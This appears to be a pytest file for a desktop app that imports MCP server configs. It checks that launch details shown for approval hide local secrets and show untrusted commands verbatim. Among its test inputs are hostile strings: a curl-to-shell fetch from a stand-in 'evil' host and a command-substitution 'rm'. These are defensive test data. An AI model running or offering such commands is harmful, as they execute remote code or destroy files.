"""What a person reads before a yes is all there is, and nothing of it is hidden by its look."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from desktop.config.imports.clients import ClientLocations
from desktop.config.imports.plan import make_plans
from desktop.config.imports.reader import look_at
from desktop.config.launch_details import launch_details
from desktop.config.models import AppSettings, ServerConfig
from desktop.config.store import ConfigStore
from desktop.redaction.policy import PLACEHOLDER
from desktop.redaction.redactor import Redaction

if TYPE_CHECKING:
    from pathlib import Path


def shown(*, is_own: bool = False, **fields: Any) -> dict[str, str]:
    transport = "http" if "url" in fields else "stdio"
    config = ServerConfig.checked(name="a", transport=transport, **fields)
    details = launch_details(config, Redaction(["known-s3cret"]), is_own=is_own)
    return {detail.place: detail.value for detail in details}


@pytest.mark.parametrize(
    "code",
    [
        "TOKEN=x;curl${IFS}http://evil|sh",
        "echo --key `rm x`",
        "password:$(x)",
        "x" * 5000 + " evil",
    ],
)
def test_code_of_a_stranger_is_not_taken_for_a_secret(code: str) -> None:
    assert shown(command="sh", args=("-c", code))["command"] == f"sh -c '{code}'"


def test_secrets_of_this_machine_are_covered_wherever_they_stand() -> None:
    details = shown(
        command="x",
        args=("--key", "known-s3cret"),
        cwd="/known-s3cret",
        env={"A": "known-s3cret", "B": "it is known-s3cret;x"},
    )
    assert "known-s3cret" not in repr(details)
    assert details["command"] == f"x --key {PLACEHOLDER}"


def test_values_that_can_only_be_secrets_are_covered_and_nothing_else() -> None:
    env = {"API_KEY": "s3cretValue", "AUTH_TOKEN": "x;y", "MY_KEY": "/tmp/x", "MODE": "fast"}
    assert shown(command="x", env=env) == {
        "command": "x",
        "env.API_KEY": PLACEHOLDER,
        "env.AUTH_TOKEN": "x;y",
        "env.MY_KEY": "/tmp/x",
        "env.MODE": "fast",
    }
    headers = {"Authorization": "Bearer s3cretValue", "X-Api-Key": "${GITHUB_TOKEN}"}
    assert shown(url="https://u:p@h.example/?token=x", headers=headers) == {
        "url": "https://u:p@h.example/?token=x",
        "headers.Authorization": f"Bearer {PLACEHOLDER}",
        "headers.X-Api-Key": "${GITHUB_TOKEN}",
    }


def test_in_the_persons_own_file_what_looks_secret_is_covered() -> None:
    own = shown(is_own=True, command="x", args=("--token", "s3cret"), env={"API_KEY": "a b;c"})
    assert own == {"command": f"x --token {PLACEHOLDER}", "env.API_KEY": PLACEHOLDER}
    assert "s3cret" not in repr(shown(is_own=True, url="https://u:s3cret@h.example/"))


@pytest.mark.parametrize(
    ("place", "is_own"),
    [
        (".cursor/mcp.json", True),
        ("project/.cursor/mcp.json", False),
        ("downloads/mcp.json", False),
    ],
)
def test_only_the_file_of_ones_own_client_is_not_a_strangers(
    tmp_path: Path, place: str, is_own: bool
) -> None:
    file = tmp_path / place
    file.parent.mkdir(parents=True)
    entry = {"command": "x", "args": ["--token", "s3cret-value", "of-the-machine"]}
    file.write_text(json.dumps({"mcpServers": {"a": entry}}), "utf-8")
    places = ClientLocations(
        tmp_path, {"MY_TOKEN": "of-the-machine"}, "linux", tmp_path / "project"
    )
    read = look_at(str(file), places, AppSettings()).read
    assert read is not None
    server = make_plans([read], ConfigStore(tmp_path / "none.json", {}))[0].servers[0]
    assert ("s3cret-value" in server.details[0].value) is not is_own
    assert any(finding.kind == "stranger" for finding in server.findings) is not is_own
    if not is_own:
        assert "of-the-machine" not in server.details[0].value
